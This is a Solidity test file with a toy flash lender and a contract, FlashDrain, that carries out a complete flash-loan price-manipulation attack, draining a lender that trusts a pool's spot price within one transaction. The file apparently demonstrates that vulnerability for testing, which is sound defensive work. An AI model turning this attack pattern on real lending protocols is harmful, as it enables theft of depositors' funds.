// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

import {SpotLender} from "./SpotLender.sol";
import {SpotPool} from "./SpotPool.sol";

/// Lends everything that it has for the time of one call, and wants it back. For tests only.
contract FlashLender {
    /// Lends `amount` to the caller, which must have given it back when its `onFlashLoan` returns.
    function flashLoan(IERC20 token, uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        require(token.transfer(msg.sender, amount), "not sent");
        FlashDrain(msg.sender).onFlashLoan(token, amount);
        require(token.balanceOf(address(this)) >= before, "not given back");
    }
}

/// Empties a lender that believes the price of the moment, in one transaction and with borrowed money: makes the goods dear,
/// borrows against a few of them, makes them cheap again, and gives the money back. For tests only.
contract FlashDrain {
    FlashLender private immutable _bank;
    SpotLender private immutable _victim;
    SpotPool private immutable _pool;
    IERC20 private immutable _cash;
    IERC20 private immutable _goods;

    constructor(FlashLender bank, SpotLender victim) {
        _bank = bank;
        _victim = victim;
        _pool = victim.pool();
        _cash = victim.cash();
        _goods = victim.goods();
    }

    /// Takes everything that the lender has; the caller keeps it. `loan` is how much cash it takes to move the price.
    function attack(uint256 loan) external {
        _bank.flashLoan(_cash, loan);
        require(_cash.transfer(msg.sender, _cash.balanceOf(address(this))), "not sent");
    }

    function onFlashLoan(IERC20, uint256 loan) external {
        require(msg.sender == address(_bank), "not the bank");
        _cash.approve(address(_pool), loan);
        uint256 goods = _pool.swap(_cash, loan);

        uint256 prize = _cash.balanceOf(address(_victim));
        uint256 pledge = prize * 2 * 1e18 / _pool.spotPrice() + 1;
        _goods.approve(address(_victim), pledge);
        _victim.borrow(pledge, prize);

        _goods.approve(address(_pool), goods - pledge);
        _pool.swap(_goods, goods - pledge);
        require(_cash.transfer(address(_bank), loan), "not sent");
    }
}
